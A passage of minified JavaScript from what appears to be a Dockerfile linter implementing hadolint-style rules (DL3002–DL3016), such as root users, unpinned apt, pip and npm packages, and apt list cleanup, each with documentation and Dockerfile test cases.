nt(n){if(n.name!=="apt-get")return;let e=T(n,zc);if(e.length)return{sub:e[0],packages:e.slice(1)}}function lr(n){let e;if(/^pip(\d+(\.\d+)*)?$/.test(n.name))e=n.args;else if(/^python(\d+(\.\d+)*)?$/.test(n.name)){let r=n.args.findIndex((a,c)=>a.value==="-m"&&n.args[c+1]?.value==="pip"),o=n.args.findIndex(a=>a.value==="-mpip");if(r>=0)e=n.args.slice(r+2);else if(o>=0)e=n.args.slice(o+1);else return}else return;let t={...n,args:e},s=or(t,Jc);if(!s||s.value!=="install")return;let i=e.indexOf(s);return{install:s,args:e.slice(i+1),all:e}}function ur(n){if(n.endsWith(".rpm"))return!0;let e=n.split("-"),t=e.findIndex((s,i)=>i>0&&/^[0-9]/.test(s));return t<0?!1:e.slice(t).every(s=>/^[0-9A-Za-z.~^_:+*]+$/.test(s))}function yn(n){return!n.dynamic&&!!n.value&&!n.value.startsWith("@")&&!n.value.includes("/")&&!n.value.includes("(")&&!/[*?[]/.test(n.value)}function Wp(n){return n.memoize("pkg:shipped",()=>{let e=new Set,t=n.stages[n.stages.length-1];for(;t&&!e.has(t);){e.add(t);let s=(t.from.getImageName()??"").toLowerCase(),i=t.index;t=n.stages.find(r=>r.index<i&&r.name?.toLowerCase()===s)}return e})}function It(n,e){let t=(e.from.getImageName()??"").toLowerCase();return n.stages.find(s=>s.index<e.index&&s.name?.toLowerCase()===t)}function pr(n,e,t,s){return n.memoize(`nearestBefore:${t}`,()=>{let r=new Map,o=new Map;for(let a of n.stages){let c=It(n,a),l=c?o.get(c):void 0;for(let u of a.instructions)r.set(u,l),s(u)&&(l=u);o.set(a,l)}return r}).get(e)}function Gp(n,e){let t=new Set,s=e;for(let i=It(n,s);i&&!t.has(i);i=It(n,s))t.add(s),s=i;return s}function bn(n,e){let t=e.node;if((t.getRawArgumentsContent()??"").includes("<<"))return;let i=t instanceof Bp.JSONInstruction?t.getJSONStrings():[];if(i.length)return{values:i.map(o=>ar(n.textOf(o.getRange()))??o.getJSONValue()),ranges:i.map(o=>o.getRange())};let r=t.getArguments();return{values:r.map(o=>o.getValue()),ranges:r.map(o=>o.getRange())}}function xv(n){let e=n.split(":")[0];return e==="root"||e==="0"}var Rv={id:"DL3002",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3002"},docs:{summary:"The last USER of the final image should not be root.",why:"Containers run as the image's last USER. Running as root means a compromise of the process is a root compromise of the container (and, with a misconfigured runtime, of the host). Only the stage that becomes the image is checked: a build stage running as root is harmless.",bad:`FROM node:20-slim
+USER root
+RUN npm ci
+`,good:`FROM node:20-slim
+USER root
+RUN npm ci
+USER node
+`},check({model:n,report:e}){let t=n.stages[n.stages.length-1],s=new Set;for(;t&&!s.has(t);){s.add(t);let i;for(let o of t.instructions)o.keyword==="USER"&&(i=o);if(i){let o=i.node.getArguments()[0]?.getValue()??"";xv(o)&&e({message:"Last USER should not be root",range:i.range});return}let r=It(n,t);if(!r)return;t=r}},tests:[{name:"USER root last",input:`FROM debian
+USER root
+RUN id
+`,expect:[{line:2,col:1}]},{name:"USER 0:0",input:`FROM debian
+USER 0:0
+`,expect:[{line:2}]},{name:"root then app",input:`FROM debian
+USER root
+RUN id
+USER app
+`,expect:[]},{name:"no USER at all",input:`FROM debian
+RUN id
+`,expect:[]},{name:"build stage as root is fine",input:`FROM debian AS build
+USER root
+FROM debian
+USER app
+`,expect:[]},{name:"inherited from the parent stage",input:`FROM debian AS base
+USER root
+FROM base
+RUN id
+`,expect:[{line:2}]},{name:"root-like names",input:`FROM debian
+USER rootless
+`,expect:[]}]},Vp=Rv;var Ov={id:"DL3003",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3003"},docs:{summary:"Use WORKDIR to switch to a directory instead of `cd` in RUN.",why:"A `cd` only lasts until the end of its RUN, which is easy to forget when the next RUN assumes it; WORKDIR applies to every following instruction and documents where the build happens. `cd` inside `( \u2026 )` or `$( \u2026 )` does not leak and is not reported.",bad:`FROM node:20-slim
+RUN cd /app && npm ci
+`,good:`FROM node:20-slim
+WORKDIR /app
+RUN npm ci
+`},check({model:n,report:e}){for(let t of F(n)){let s=t.commands.find(i=>i.name==="cd"&&!i.substitution&&!i.subshell);s&&e({message:"Use WORKDIR to switch to a directory",range:s.nameWord.range})}},tests:[{name:"cd then build",input:`FROM node:20
+RUN cd /app && npm ci
+`,expect:[{line:2,col:5}]},{name:"one finding per RUN",input:`FROM node:20
+RUN cd /a && make && cd /b && make
+`,expect:[{line:2,col:5}]},{name:"cd in a subshell",input:`FROM node:20
+RUN (cd /app && npm ci) && echo done
+`,expect:[]},{name:"cd in a command substitution",input:`FROM node:20
+RUN DIR="$(cd /app && pwd)" && echo "$DIR"
+`,expect:[]},{name:"cd as an argument",input:`FROM node:20
+RUN echo cd /app
+`,expect:[]},{name:"WORKDIR",input:`FROM node:20
+WORKDIR /app
+RUN npm ci
+`,expect:[]}]},zp=Ov;var Sv={id:"DL3004",language:"dockerfile",severity:"error",compat:{hadolint:"DL3004"},docs:{summary:"Do not use sudo in RUN.",why:"sudo has unpredictable TTY and signal-forwarding behaviour and usually is not installed. RUN already runs as the current USER: switch with `USER root` for the steps that need it, or use gosu/su-exec in an entrypoint.",bad:`FROM debian:bookworm
+USER app
+RUN sudo apt-get update
+`,good:`FROM debian:bookworm
+USER root
+RUN apt-get update
+USER app
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){let i=[...s.wrappers,s.nameWord].find(r=>!r.dynamic&&/(^|\/)sudo$/.test(r.value));i&&e({message:"Do not use sudo as it leads to unpredictable behavior. Use a tool like gosu to enforce root",range:i.range})}},tests:[{name:"sudo wrapper",input:`FROM debian
+RUN sudo apt-get update
+`,expect:[{line:2,col:5}]},{name:"sudo with options and env prefix",input:`FROM debian
+RUN DEBIAN_FRONTEND=noninteractive sudo -E make install
+`,expect:[{line:2,col:36}]},{name:"sudo alone",input:`FROM debian
+RUN echo ok && sudo
+`,expect:[{line:2,col:16}]},{name:"installing sudo is fine",input:`FROM debian
+RUN apt-get install -y sudo && echo "app ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/app
+`,expect:[]},{name:"gosu",input:`FROM debian
+RUN gosu nobody true
+`,expect:[]}]},Jp=Sv;function gt(n,e={}){let t=`image:refs:${JSON.stringify(e)}`;return n.memoize(t,()=>{let s=Av(n,e),i=[];for(let r of n.stages){let o=r.from,a=o.getImageRange(),c=o.getImage()??"";if(!a||!c)continue;let l={stage:r,ins:r.fromInstruction,written:c,range:a,scratch:!1,substituted:!1},u=c.includes("$")?Kp(c,s):c;if(l.substituted=c.includes("$"),u!==void 0){l.resolved=u;let p=u.toLowerCase();l.stageRef=n.stages.find(d=>d.index<r.index&&d.name?.toLowerCase()===p),l.stageRef||Object.assign(l,Mv(u)),l.scratch=!l.stageRef&&p==="scratch"}i.push(l)}return i})}function Mv(n){let e=n,t,s=e.indexOf("@");s>=0&&(t=e.slice(s+1),e=e.slice(0,s));let i,r=e.lastIndexOf(":");r>e.lastIndexOf("/")&&(i=e.slice(r+1),e=e.slice(0,r));let o,a=e.indexOf("/");if(a>0){let c=e.slice(0,a);(c.includes(".")||c.includes(":")||c==="localhost")&&(o=c,e=e.slice(a+1))}return{registry:o,path:e,tag:i,digest:t}}function Av(n,e){let t=new Map;for(let s of n.preamble)if(s.keyword==="ARG")for(let i of s.node.getArguments()){let r=i.getValue(),o=r.indexOf("="),a=o<0?r:r.slice(0,o),c=o<0?void 0:Nv(r.slice(o+1));c!==void 0&&c.includes("$")&&(c=Kp(c,t)),t.set(a,c)}for(let[s,i]of Object.entries(e))t.has(s)&&t.set(s,i);return t}function Nv(n){return n.length>=2&&(n.startsWith('"')&&n.endsWith('"')||n.startsWith("'")&&n.endsWith("'"))?n.slice(1,-1):n}function Kp(n,e){let t="",s=!1,i=/\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-+])([^}]*))?\}|([A-Za-z_][A-Za-z0-9_]*))/g,r=0;for(let o=i.exec(n);o;o=i.exec(n)){t+=n.slice(r,o.index),r=o.index+o[0].length;let a=o[1]??o[4],c=o[2],l=e.get(a),u=l!==void 0&&(c?.startsWith(":")?l!=="":!0);c==="-"||c===":-"?t+=u?l:o[3]:c==="+"||c===":+"?t+=u?o[3]:"":l===void 0?s=!0:t+=l}return t+=n.slice(r),s?void 0:t}var Ev={id:"DL3006",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3006"},docs:{summary:"Always tag the version of an image explicitly.",why:"Without a tag Docker uses `latest`, which moves: the same Dockerfile builds on a different base image from one week to the next. Name a tag (or a digest). Earlier stages (`FROM build`) and `scratch` need none; a base given by an ARG is checked with its default value.",bad:`FROM python
+CMD ["python"]
+`,good:`FROM python:3.12-slim
+CMD ["python"]
+`},check({model:n,report:e,options:t}){for(let s of gt(n,t.buildArgs))s.resolved===void 0||s.stageRef||s.scratch||s.tag!==void 0||s.digest||s.path&&e({message:s.substituted?`Always tag the version of an image explicitly (\`${s.written}\` is \`${s.resolved}\`)`:"Always tag the version of an image explicitly",range:s.range})},tests:[{name:"untagged",input:`FROM debian
+`,expect:[{line:1,col:6}]},{name:"untagged with registry port",input:`FROM localhost:5000/app
+`,expect:[{line:1}]},{name:"tagged",input:`FROM debian:bookworm
+FROM localhost:5000/app:1.0
+`,expect:[]},{name:"digest",input:`FROM debian@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+`,expect:[]},{name:"scratch",input:`FROM scratch
+`,expect:[]},{name:"earlier stage",input:`FROM debian:12 AS build
+FROM build
+`,expect:[]},{name:"ARG default without a tag",input:`ARG BASE=debian
+FROM \${BASE}
+`,expect:[{line:2,message:"`debian`"}]},{name:"ARG default with a tag",input:`ARG BASE=debian:12
+FROM $BASE
+`,expect:[]},{name:"ARG for the tag",input:`ARG VERSION=12
+FROM debian:\${VERSION}
+`,expect:[]},{name:"empty tag is another problem",input:`ARG SFX="box:"
+FROM busy\${SFX}
+`,expect:[]},{name:"ARG without a value is unknown",input:`ARG BASE
+FROM $BASE
+`,expect:[]},{name:"build arg overrides the default",input:`ARG BASE=debian:12
+FROM $BASE
+`,options:{buildArgs:{BASE:"ubuntu"}},expect:[{line:2}]}]},Xp=Ev;var Fv={id:"DL3007",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3007"},docs:{summary:"Do not use the `latest` tag; pin the version explicitly.",why:"`latest` moves whenever the image is updated, so rebuilds of the same Dockerfile silently change base image (and can break). A digest next to it pins it.",bad:`FROM node:latest
+CMD ["node"]
+`,good:`FROM node:20.14-slim
+CMD ["node"]
+`},check({model:n,report:e,options:t}){for(let s of gt(n,t.buildArgs))s.stageRef||s.digest||s.tag?.toLowerCase()!=="latest"||e({message:"Using latest is prone to errors if the image will ever update. Pin the version explicitly to a release tag",range:s.stage.from.getImageTagRange()??s.range})},tests:[{name:"latest",input:`FROM node:latest
+`,expect:[{line:1,col:11}]},{name:"latest with registry",input:`FROM ghcr.io/org/app:latest AS app
+`,expect:[{line:1}]},{name:"latest pinned by digest",input:`FROM node:latest@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+`,expect:[]},{name:"version tag",input:`FROM node:20
+`,expect:[]},{name:"ARG default latest",input:`ARG TAG=latest
+FROM node:\${TAG}
+`,expect:[{line:2}]},{name:"untagged is DL3006",input:`FROM node
+`,expect:[]}]},Zp=Fv;function Cv(n){return n.includes("=")||n.includes("/")||n.endsWith(".deb")}var Lv={id:"DL3008",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3008"},docs:{summary:"Pin versions in `apt-get install`.",why:"Without versions the image you build next month installs whatever the mirror has then, so two builds of the same Dockerfile can differ and a rebuild can break with no change on your side. Pin `pkg=version` (or a release with `pkg/release`) for packages your software depends on.",bad:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl \\
+ && rm -rf /var/lib/apt/lists/*
+`,good:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12 \\
+ && rm -rf /var/lib/apt/lists/*
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){let i=nt(s);if(!i||i.sub.value!=="install")continue;let r=i.packages.filter(a=>!a.dynamic&&!Cv(a.value));if(!r.length)continue;let o=r.map(a=>a.value);e({message:`Pin versions in apt-get install: ${o.slice(0,5).join(", ")}${o.length>5?`, \u2026 (${o.length})`:""}. Instead of \`apt-get install <package>\` use \`apt-get install <package>=<version>\``,range:r[0].range})}},tests:[{name:"unpinned package",input:`FROM debian
+RUN apt-get install -y curl
+`,expect:[{line:2,col:24,message:"curl"}]},{name:"pinned package",input:`FROM debian
+RUN apt-get install -y curl=7.88.1-10
+`,expect:[]},{name:"pinned with wildcard version",input:`FROM debian
+RUN apt-get install -y "curl=7.88.*"
+`,expect:[]},{name:"release pin and local .deb",input:`FROM debian
+RUN apt-get install -y git/bookworm-backports ./pkg.deb
+`,expect:[]},{name:"continuation list reports once, at the first unpinned package",input:`FROM debian
+RUN apt-get update \\
+ && apt-get install -y --no-install-recommends \\
+      ca-certificates=20230311 \\
+      curl \\
+      git \\
+ && rm -rf /var/lib/apt/lists/*
+`,expect:[{line:5,col:7,message:"curl, git"}]},{name:"variables are not checked",input:`FROM debian
+ARG PKGS
+RUN apt-get install -y $PKGS "\${EXTRA}"
+`,expect:[]},{name:"options before the subcommand",input:`FROM debian
+RUN apt-get -y -q install curl
+`,expect:[{line:2,col:27}]},{name:"target release value is not a package",input:`FROM debian
+RUN apt-get install -y -t bookworm-backports curl=8.0
+`,expect:[]},{name:"-o values are not packages",input:`FROM debian
+RUN apt-get -o Dpkg::Options::=--force-confold install -y curl=1
+`,expect:[]},{name:"env prefix and sudo",input:`FROM debian
+RUN DEBIAN_FRONTEND=noninteractive sudo apt-get install -y vim
+`,expect:[{line:2,message:"vim"}]},{name:"other apt-get subcommands",input:`FROM debian
+RUN apt-get update && apt-get purge -y curl && apt-get source foo
+`,expect:[]},{name:"package named like a word in a string",input:`FROM debian
+RUN echo "apt-get install curl"
+`,expect:[]},{name:"exec form",input:`FROM debian
+RUN ["apt-get", "install", "-y", "curl"]
+`,expect:[{line:2,col:34}]},{name:"hadolint ignore",input:`FROM debian
+# hadolint ignore=DL3008
+RUN apt-get install -y curl
+`,expect:[]},{name:"PowerShell stage is not parsed",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
+SHELL ["powershell", "-Command"]
+RUN apt-get install curl
+`,expect:[]}]},Qp=Lv;var Dv=/^\/var\/lib\/apt\/lists(\/\*?|\/\.?\*)?$/,Tv={id:"DL3009",language:"dockerfile",severity:"info",compat:{hadolint:"DL3009"},docs:{summary:"Delete the apt-get lists after installing something, in the same RUN.",why:"`apt-get update` downloads package lists (tens of megabytes) into `/var/lib/apt/lists`. Removing them in a later RUN does not shrink the image, because the earlier layer still holds them. Only stages that end up in the final image are checked, and a cache mount on the lists directory is fine.",bad:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12
+`,good:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u12 \\
+ && rm -rf /var/lib/apt/lists/*
+`},check({model:n,report:e}){let t=Wp(n);for(let s of F(n)){if(!s.ins.stage||!t.has(s.ins.stage))continue;let i=s.commands.find(a=>nt(a)?.sub.value==="update");if(!i||s.commands.some(a=>a.name==="rm"&&a.args.some(c=>Dv.test(c.value))||nt(a)?.sub.value==="dist-clean")||ye(n,s.ins,"/var/lib/apt/lists"))continue;let o=Ge(n,s,"rm -rf /var/lib/apt/lists/*");e({message:"Delete the apt-get lists after installing something: add `rm -rf /var/lib/apt/lists/*` to this RUN",range:i.nameWord.range,fixes:o?[{title:"Append `rm -rf /var/lib/apt/lists/*`",edits:[o],preferred:!0}]:void 0})}},tests:[{name:"lists left behind",input:`FROM debian
+RUN apt-get update && apt-get install -y curl
+`,expect:[{line:2,col:5}],fixed:`FROM debian
+RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
+`},{name:"fix follows the leading-&& style",input:`FROM debian
+RUN apt-get update \\
+    && apt-get install -y curl
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt-get update \\
+    && apt-get install -y curl \\
+    && rm -rf /var/lib/apt/lists/*
+`},{name:"fix follows the trailing-&& style",input:`FROM debian
+RUN apt-get update && \\
+  apt-get install -y curl
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt-get update && \\
+  apt-get install -y curl && \\
+  rm -rf /var/lib/apt/lists/*
+`},{name:"cleaned in the same RUN",input:`FROM debian
+RUN apt-get update && apt-get install -y curl \\
+ && rm -rf /var/lib/apt/lists/*
+`,expect:[]},{name:"cleaned with ; and set -eux",input:`FROM debian
+RUN set -eux; apt-get update; apt-get install -y curl; rm -rf /var/lib/apt/lists/*
+`,expect:[]},{name:"apt-get dist-clean",input:`FROM debian:trixie
+RUN set -eux; apt-get update; apt-get install -y curl; apt-get dist-clean
+`,expect:[]},{name:"apt-get clean keeps the lists",input:`FROM debian
+RUN apt-get update && apt-get install -y curl && apt-get clean
+`,expect:[{line:2}]},{name:"rm -fr of the directory",input:`FROM debian
+RUN apt-get update && apt-get install -y curl && rm -fr /var/lib/apt/lists
+`,expect:[]},{name:"not the final stage",input:`FROM debian AS build
+RUN apt-get update && apt-get install -y gcc
+FROM debian
+COPY --from=build /x /x
+`,expect:[]},{name:"a stage the final one builds on",input:`FROM debian AS base
+RUN apt-get update && apt-get install -y curl
+FROM base
+CMD ["curl"]
+`,expect:[{line:2}]},{name:"cache mount on apt lists",input:`FROM debian
+RUN --mount=type=cache,target=/var/lib/apt/lists --mount=type=cache,target=/var/cache/apt \\
+    apt-get update && apt-get install -y curl
+`,expect:[]},{name:"cache mount on /var/lib/apt",input:`FROM debian
+RUN --mount=type=cache,target=/var/lib/apt apt-get update && apt-get install -y curl
+`,expect:[]},{name:"cleanup in a later RUN does not help",input:`FROM debian
+RUN apt-get update
+RUN rm -rf /var/lib/apt/lists/*
+`,expect:[{line:2}]},{name:"no fix when the RUN ends with a comment",input:`FROM debian
+RUN apt-get update && apt-get install -y curl # tools
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt-get update && apt-get install -y curl # tools
+`},{name:"no update, nothing to delete",input:`FROM debian
+RUN apt-get install -y ./local.deb
+`,expect:[]}]},ed=Tv;var jv={id:"DL3011",language:"dockerfile",severity:"error",compat:{hadolint:"DL3011"},docs:{summary:"EXPOSE ports must be between 0 and 65535.",why:"A port outside the TCP/UDP range can never be published; `docker build` accepts it and `docker run -P` fails later.",bad:`FROM python:3.12-slim
+EXPOSE 80000
+`,good:`FROM python:3.12-slim
+EXPOSE 8000
+`},check({model:n,report:e}){for(let t of n.instructions)if(t.keyword==="EXPOSE")for(let s of t.node.getArguments()){let i=s.getValue();if(i.includes("$"))continue;let r=i.split("/")[0],o=r.includes(":")?r.slice(r.lastIndexOf(":")+1):r;for(let a of o.split("-")){if(!/^\d+$/.test(a))continue;if(Number(a)>65535){e({message:`Valid UNIX ports range from 0 to 65535 (got ${a})`,range:s.getRange()});break}}}},tests:[{name:"too large",input:`FROM scratch
+EXPOSE 80 70000
+`,expect:[{line:2,col:11,message:"70000"}]},{name:"range end too large",input:`FROM scratch
+EXPOSE 8000-70000/tcp
+`,expect:[{line:2,col:8}]},{name:"valid ports and protocols",input:`FROM scratch
+EXPOSE 0 80/tcp 53/udp 65535 8000-8010
+`,expect:[]},{name:"variables are skipped",input:`FROM scratch
+ARG PORT=8000
+EXPOSE $PORT
+`,expect:[]}]},td=jv;var _v=["==",">=","<=",">","<","!=","~=","==="],$v=/^(git|hg|svn|bzr)(\+[a-z-]+)?:/;function Iv(n){if(_v.some(e=>n.includes(e)))return!0;if($v.test(n)){let e=n.replace(/#.*$/,""),t=e.includes("://")?e.slice(e.indexOf("://")+3):e;return t.slice(t.indexOf("/")+1).includes("@")}return/\.(whl|tar\.gz|tgz|zip|tar\.bz2)$/.test(n)||n.includes("/")||n==="."||n.startsWith(".")?!0:n.includes(" @ ")}var Pv={id:"DL3013",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3013"},docs:{summary:"Pin versions in `pip install`.",why:"`pip install flask` installs whatever release is newest on the day of the build; a new major version can break the image without any change to the Dockerfile. Pin with `flask==3.0.3` or install from a requirements or constraints file.",bad:`FROM python:3.12-slim
+RUN pip install --no-cache-dir flask
+`,good:`FROM python:3.12-slim
+RUN pip install --no-cache-dir flask==3.0.3
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){let i=lr(s);if(!i||i.args.map(c=>c.value).some(c=>/^(-r|--requirement|-c|--constraint)(=|$)/.test(c)||/^-[a-zA-Z]*[rc]$/.test(c)||c==="."))continue;let o={...s,args:i.args},a=T(o,Jc).filter(c=>!c.dynamic&&!Iv(c.value));a.length&&e({message:`Pin versions in pip: ${a.map(c=>c.value).join(", ")}. Instead of \`pip install <package>\` use \`pip install <package>==<version>\` or \`pip install --requirement <requirements file>\``,range:a[0].range})}},tests:[{name:"unpinned",input:`FROM python:3.12
+RUN pip install flask
+`,expect:[{line:2,col:17,message:"flask"}]},{name:"== pin",input:`FROM python:3.12
+RUN pip install flask==3.0.3 "requests>=2.31,<3"
+`,expect:[]},{name:"extras with a pin",input:`FROM python:3.12
+RUN pip install "uvicorn[standard]==0.30.1"
+`,expect:[]},{name:"extras without a pin",input:`FROM python:3.12
+RUN pip install "uvicorn[standard]"
+`,expect:[{line:2,message:"uvicorn[standard]"}]},{name:"requirements file",input:`FROM python:3.12
+RUN pip install --no-cache-dir -r requirements.txt
+`,expect:[]},{name:"requirement long form",input:`FROM python:3.12
+RUN pip install --requirement=requirements.txt gunicorn
+`,expect:[]},{name:"constraints file",input:`FROM python:3.12
+RUN pip install -c constraints.txt flask
+`,expect:[]},{name:"local project",input:`FROM python:3.12
+RUN pip install . && pip install -e ./lib && pip install ./dist/app-1.0-py3-none-any.whl
+`,expect:[]},{name:"git URL with a ref",input:`FROM python:3.12
+RUN pip install git+https://github.com/org/repo.git@v1.2.0
+`,expect:[]},{name:"git URL without a ref",input:`FROM python:3.12
+RUN pip install git+https://github.com/org/repo.git
+`,expect:[{line:2}]},{name:"python -m pip",input:`FROM python:3.12
+RUN python3 -m pip install --upgrade pip setuptools==70.0.0
+`,expect:[{line:2,message:/: pip\./}]},{name:"index url value is not a package",input:`FROM python:3.12
+RUN pip install -i https://pypi.example.com/simple flask==3.0.3
+`,expect:[]},{name:"variables",input:`FROM python:3.12
+ARG PKG
+RUN pip install "$PKG" \${EXTRA}
+`,expect:[]},{name:"pip other subcommands",input:`FROM python:3.12
+RUN pip download flask && pip uninstall -y flask && pip --version
+`,expect:[]},{name:"pipx and pipenv are other tools",input:`FROM python:3.12
+RUN pipenv install && pipx install black==24.4.2
+`,expect:[]}]},nd=Pv;var qv=new Set(["install","remove","purge","upgrade","dist-upgrade","full-upgrade","autoremove","build-dep"]);function Uv(n){let e=0;for(let t=0;t<n.args.length;t++){let s=n.args[t].value;if(s==="--")break;if(s==="--yes"||s==="--assume-yes"||s==="--force-yes"||/^--(yes|assume-yes)=(1|true|yes)$/i.test(s)||/^--quiet=([2-9]|\d\d)$/.test(s))return!0;if(s==="--quiet"&&e++,/^-[a-zA-Z]+$/.test(s)){if(s.includes("y"))return!0;e+=s.split("q").length-1}let i=s.startsWith("-o")&&s.length>2?s.slice(2):s==="-o"||s==="--option"?n.args[t+1]?.value??"":"";if(/^APT::Get::Assume-Yes=(1|true|yes)$/i.test(i))return!0}return e>=2}var Hv={id:"DL3014",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3014"},docs:{summary:"Use the `-y` switch with `apt-get install` (and other apt-get commands that ask for confirmation).",why:'A build has no terminal: when apt-get asks "Do you want to continue? [Y/n]" it reads end-of-file and aborts, so the build fails as soon as the install needs more than the named packages.',bad:`FROM debian:bookworm
+RUN apt-get update && apt-get install --no-install-recommends curl
+`,good:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){let i=nt(s);!i||!qv.has(i.sub.value)||Uv(s)||e({message:`Use the \`-y\` switch to avoid manual input \`apt-get ${i.sub.value} -y <package>\``,range:i.sub.range,fixes:[{title:"Add `-y`",edits:[oe(i.sub,"-y")],preferred:!0}]})}},tests:[{name:"install without -y",input:`FROM debian
+RUN apt-get install curl
+`,expect:[{line:2,col:13}],fixed:`FROM debian
+RUN apt-get install -y curl
+`},{name:"-y before the subcommand",input:`FROM debian
+RUN apt-get -y install curl
+`,expect:[]},{name:"--yes, --assume-yes, -qy",input:`FROM debian
+RUN apt-get install --yes a && apt-get install --assume-yes b && apt-get install -qy c
+`,expect:[]},{name:"-qq implies -y",input:`FROM debian
+RUN apt-get -qq install curl
+`,expect:[]},{name:"a single -q does not",input:`FROM debian
+RUN apt-get -q install curl
+`,expect:[{line:2}],fixed:`FROM debian
+RUN apt-get -q install -y curl
+`},{name:"APT::Get::Assume-Yes option",input:`FROM debian
+RUN apt-get -o APT::Get::Assume-Yes=true install curl
+`,expect:[]},{name:"purge and autoremove prompt too",input:`FROM debian
+RUN apt-get purge curl && apt-get autoremove
+`,expect:[{line:2,col:13},{line:2,col:35}],fixed:`FROM debian
+RUN apt-get purge -y curl && apt-get autoremove -y
+`},{name:"update does not prompt",input:`FROM debian
+RUN apt-get update
+`,expect:[]},{name:"continuation lines",input:`FROM debian
+RUN apt-get update && \\
+    apt-get install \\
+      curl
+`,expect:[{line:3,col:13}],fixed:`FROM debian
+RUN apt-get update && \\
+    apt-get install -y \\
+      curl
+`}]},sd=Hv;function Yv(n){for(let e=0;e<n.args.length;e++){let t=n.args[e].value;if(t==="--no-install-recommends"||t==="--install-recommends=false"||t==="--install-recommends=no")return!0;let s=t.startsWith("-o")&&t.length>2?t.slice(2):t==="-o"||t==="--option"?n.args[e+1]?.value??"":"";if(/^APT::Install-Recommends=(0|false|no)$/i.test(s)||/^APT::Install-Recommends=(0|false|no)$/i.test(t))return!0}return!1}var Bv={id:"DL3015",language:"dockerfile",severity:"info",compat:{hadolint:"DL3015"},docs:{summary:"Avoid additional packages by specifying `--no-install-recommends`.",why:'By default apt-get also installs every "recommended" package, which often doubles the size of an install (documentation, GUI helpers, extra tools) and widens the attack surface.',bad:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
+`,good:`FROM debian:bookworm
+RUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){let i=nt(s);!i||i.sub.value!=="install"||Yv(s)||e({message:"Avoid additional packages by specifying `--no-install-recommends`",range:i.sub.range,fixes:[{title:"Add `--no-install-recommends`",edits:[oe(i.sub,"--no-install-recommends")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM debian
+RUN apt-get install -y curl
+`,expect:[{line:2,col:13}],fixed:`FROM debian
+RUN apt-get install --no-install-recommends -y curl
+`},{name:"present",input:`FROM debian
+RUN apt-get install -y --no-install-recommends curl
+`,expect:[]},{name:"APT option",input:`FROM debian
+RUN apt-get install -y -o APT::Install-Recommends=false curl
+`,expect:[]},{name:"update only",input:`FROM debian
+RUN apt-get update
+`,expect:[]},{name:"in a heredoc RUN",input:`FROM debian
+RUN <<EOF
+set -e
+apt-get install -y curl
+EOF
+`,expect:[{line:4,col:9}]}]},id=Bv;var Wv=new Set(["prefix","registry","tag","cache","userconfig","w","workspace","omit","include","install-strategy","C","loglevel","location"]),Gv=/^(git|git\+ssh|git\+http|git\+https):\/\//;function Vv(n){return Gv.test(n)?n.includes("#"):/\.(tar|tar\.gz|tgz)$/.test(n)||/^(\/|\.\/|\.\.\/|~\/|\.$|\.\.$|file:|link:)/.test(n)?!0:(n.startsWith("@")?n.slice(n.indexOf("/")+1):n).includes("@")}var zv={id:"DL3016",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3016"},docs:{summary:"Pin versions in `npm install`.",why:"`npm install -g typescript` installs the newest release on the day of the build, so rebuilding the same Dockerfile can give a different, possibly broken, image. Use `package@version` (or install from a lockfile with `npm ci`).",bad:`FROM node:20-slim
+RUN npm install -g typescript
+`,good:`FROM node:20-slim
+RUN npm install -g typescript@5.4.5
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="npm")continue;let i=T(s,Wv);if(!i.length||!["install","i","add","isntall","in"].includes(i[0].value))continue;let r=i.slice(1).filter(o=>!o.dynamic&&!Vv(o.value));r.length&&e({message:`Pin versions in npm: ${r.map(o=>o.value).join(", ")}. Instead of \`npm install <package>\` use \`npm install <package>@<version>\``,range:r[0].range})}},tests:[{name:"unpinned global",input:`FROM node:20
+RUN npm install -g typescript
+`,expect:[{line:2,col:20,message:"typescript"}]},{name:"pinned",input:`FROM node:20
+RUN npm install -g typescript@5.4.5 @angular/cli@17.3.0
+`,expect:[]},{name:"scoped unpinned",input:`FROM node:20
+RUN npm i -g @angular/cli
+`,expect:[{line:2,message:"@angular/cli"}]},{name:"install from package.json",input:`FROM node:20
+RUN npm install && npm ci --omit=dev
+`,expect:[]},{name:"git with commit and tarball",input:`FROM node:20
+RUN npm install git+https://github.com/u/r.git#abc123 ./pkg.tgz ../lib
+`,expect:[]},{name:"git without commit",input:`FROM node:20
+RUN npm install git+https://github.com/u/r.git
+`,expect:[{line:2}]},{name:"registry value is not a package",input:`FROM node:20
+RUN npm install --registry https://r.example.com left-pad@1.3.0
+`,expect:[]},{name:"other subcommands",input:`FROM node:20
+RUN npm run build && npm cache clean --force
